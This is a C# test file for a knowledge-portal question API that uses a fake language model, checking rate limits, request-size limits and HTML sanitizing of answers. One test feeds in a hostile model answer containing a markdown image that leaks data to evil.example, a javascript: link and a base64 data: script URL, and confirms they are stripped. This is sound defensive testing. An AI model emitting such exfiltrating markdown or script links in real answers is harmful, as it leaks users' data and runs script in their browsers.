using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using KnowledgePortal.Tests.Infrastructure;
using KnowledgePortal.Web.Components.Shared;
using Microsoft.Playwright;

namespace KnowledgePortal.Tests.Deployment;

/// <summary>One real portal (Development sign-in) answering with a scriptable fake model; a budget of two questions a minute.</summary>
public sealed class ApiAskFixture : IAsyncLifetime
{
    public const int AsksPerMinute = 2;
    private TestDb? _db;

    public FakeOpenAiServer Model { get; private set; } = null!;
    public PortalProcess Portal { get; private set; } = null!;
    public IPlaywright Playwright { get; private set; } = null!;
    public IBrowser Browser { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        Model = await FakeOpenAiServer.StartAsync();
        _db = await TestDatabase.CreateAsync("apiask");
        Portal = await PortalProcess.StartAsync(_db.ConnectionString, new Dictionary<string, string>
        {
            ["Answering__DefaultProvider"] = "Fake",
            ["Answering__Providers__0__Name"] = "Fake",
            ["Answering__Providers__0__Kind"] = "OpenAICompatible",
            ["Answering__Providers__0__Endpoint"] = Model.BaseUrl + "/v1",
            ["Answering__Providers__0__Model"] = FakeOpenAiServer.DefaultModel,
            ["Answering__Providers__0__Location"] = "OnPremises",
            ["Answering__Providers__0__MaxSensitivity"] = "Secret",
            ["Answering__Providers__0__IsDefault"] = "true",
            ["Portal__AskPerMinutePerUser"] = AsksPerMinute.ToString(),
        });
        var deadline = DateTime.UtcNow.AddSeconds(120);
        while (true)
        {
            await using var db = _db.CreateContext();
            if (!db.IngestionJobs.Any(j => j.Status == Core.Domain.JobStatus.Queued || j.Status == Core.Domain.JobStatus.Running) && db.Documents.Any()) break;
            if (DateTime.UtcNow > deadline) throw new TimeoutException("demo documents were not indexed in time");
            await Task.Delay(500);
        }
        (Playwright, Browser) = await Infrastructure.Browser.LaunchAsync();
    }

    public Task<HttpClient> SignInAsync(string user) => Portal.SignInAsync(user);

    public async Task DisposeAsync()
    {
        await Browser.DisposeAsync();
        Playwright.Dispose();
        await Portal.DisposeAsync();
        await Model.DisposeAsync();
        await _db!.DisposeAsync();
    }
}

[Trait(TestTier.Name, TestTier.Browser)]
public class ApiAskTests(ApiAskFixture fixture) : IClassFixture<ApiAskFixture>
{
    private const string Question = "How many days a week can I work remotely?";

    private static JsonElement Event(string stream, string name)
    {
        var match = Regex.Match(stream, $"event: {name}\ndata: (.*)\n");
        Assert.True(match.Success, $"no '{name}' event in:\n{stream}");
        return JsonDocument.Parse(match.Groups[1].Value).RootElement;
    }

    [Fact]
    public async Task Ask_ModelAnswerWithExfiltratingMarkdown_CompletedHtmlIsWhatThePageRendersWithoutImagesOrScriptLinks()
    {
        const string hostile = "Remote work: 3 days [1]. ![x](https://evil.example/?q=secret) and [c](javascript:alert(1)) " +
                               "and [d](data:text/html;base64,PHNjcmlwdD4=).";
        fixture.Model.Responder = _ => hostile;
        using var http = await fixture.SignInAsync("staff");

        var stream = await (await http.PostAsJsonAsync("/api/ask", new { question = Question })).Content.ReadAsStringAsync();

        var completed = Event(stream, "completed");
        Assert.Equal(hostile, completed.GetProperty("answer").GetString()); // the raw field stays, unchanged
        var html = completed.GetProperty("html").GetString()!;
        Assert.DoesNotContain("evil.example", html);
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("data:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains(" and c and d.", html); // the image is gone, link texts stay as plain text
        var chunkId = completed.GetProperty("citations")[0].GetProperty("source").GetProperty("chunkId").GetInt64();
        Assert.Contains($"<a class=\"kp-cite\" href=\"/api/sources/{chunkId}\" data-cite=\"1\">[1]</a>", html);
        // The very function the chat page renders with, citations pointing at the API's source endpoint.
        Assert.Equal(AnswerMarkdown.ToSafeHtml(hostile, n => n == 1 ? $"/api/sources/{chunkId}" : null), html);

        var session = completed.GetProperty("sessionId").GetString();
        var messages = JsonDocument.Parse(await http.GetStringAsync($"/api/sessions/{session}")).RootElement;
        Assert.Equal(html, messages.EnumerateArray().Single(m => m.GetProperty("role").GetString() == "assistant").GetProperty("html").GetString());
    }

    [Fact]
    public async Task Ask_BodyOver32KB_Returns413WithJsonError()
    {
        using var http = await fixture.SignInAsync("admin");
        var big = JsonSerializer.Serialize(new { question = new string('a', 40 * 1024) });

        var declared = await http.PostAsync("/api/ask", new StringContent(big, Encoding.UTF8, "application/json"));
        var chunked = await http.PostAsync("/api/ask", new UnknownLengthContent(Encoding.UTF8.GetBytes(big)));

        foreach (var response in new[] { declared, chunked })
        {
            Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
            Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
            Assert.Contains("larger than 32 KB", JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("error").GetString());
        }
        Assert.Null(chunked.RequestMessage!.Content!.Headers.ContentLength); // really sent without a length
        // A normal question from the same user still goes through: the refusals spent no budget.
        var ok = await http.PostAsJsonAsync("/api/ask", new { question = Question });
        Assert.Equal(HttpStatusCode.OK, ok.StatusCode);
    }

    [Fact]
    public async Task Ask_BudgetSpentThroughApi_ChatPageRefusesWithClearMessage()
    {
        fixture.Model.Responder = _ => "Up to 3 days [1].";
        using var http = await fixture.SignInAsync("hr");
        for (var i = 0; i < ApiAskFixture.AsksPerMinute; i++)
            Assert.Equal(HttpStatusCode.OK, (await http.PostAsJsonAsync("/api/ask", new { question = Question })).StatusCode);
        var refused = await http.PostAsJsonAsync("/api/ask", new { question = Question });
        Assert.Equal(HttpStatusCode.TooManyRequests, refused.StatusCode);
        Assert.Contains("share one budget", JsonDocument.Parse(await refused.Content.ReadAsStringAsync()).RootElement.GetProperty("error").GetString());

        var page = await Infrastructure.Browser.SignInAsync(fixture.Browser, fixture.Portal.BaseUrl, "hr");
        var error = await AskInPageAsync(page);
        Assert.Contains("share one budget", await error.InnerTextAsync());
    }

    [Fact]
    public async Task Ask_BudgetSpentInChatPage_ApiRefusesWith429()
    {
        fixture.Model.Responder = _ => "Up to 3 days [1].";
        var page = await Infrastructure.Browser.SignInAsync(fixture.Browser, fixture.Portal.BaseUrl, "km");
        for (var i = 0; i < ApiAskFixture.AsksPerMinute; i++)
        {
            await Infrastructure.Browser.GotoAsync(page, "/");
            await page.Locator("textarea[data-testid=question-input]").FillAsync(Question);
            await page.ClickAsync("[data-testid=ask-button]");
            await page.Locator("[data-testid=answer]").Last.Locator("[data-testid=thumb-up]").WaitForAsync(new() { Timeout = 60_000 });
        }
        using var http = await fixture.SignInAsync("km");

        var refused = await http.PostAsJsonAsync("/api/ask", new { question = Question });
        var search = await http.GetAsync("/api/search?q=remote");

        Assert.Equal(HttpStatusCode.TooManyRequests, refused.StatusCode);
        Assert.Equal("60", refused.Headers.RetryAfter?.Delta?.TotalSeconds.ToString());
        Assert.Contains("share one budget", JsonDocument.Parse(await refused.Content.ReadAsStringAsync()).RootElement.GetProperty("error").GetString());
        Assert.Equal(HttpStatusCode.TooManyRequests, search.StatusCode);
    }

    /// <summary>A body sent chunked, without Content-Length, as a streaming client would.</summary>
    private sealed class UnknownLengthContent : HttpContent
    {
        private readonly byte[] _bytes;
        public UnknownLengthContent(byte[] bytes) { _bytes = bytes; Headers.ContentType = new("application/json"); }
        protected override Task SerializeToStreamAsync(Stream stream, TransportContext? context) => stream.WriteAsync(_bytes).AsTask();
        protected override bool TryComputeLength(out long length) { length = 0; return false; }
    }

    private static async Task<ILocator> AskInPageAsync(IPage page)
    {
        await Infrastructure.Browser.GotoAsync(page, "/");
        await page.Locator("textarea[data-testid=question-input]").FillAsync(Question);
        await page.ClickAsync("[data-testid=ask-button]");
        var error = page.Locator("[data-testid=answer-error]").Last;
        await error.WaitForAsync(new() { Timeout = 30_000 });
        return error;
    }
}
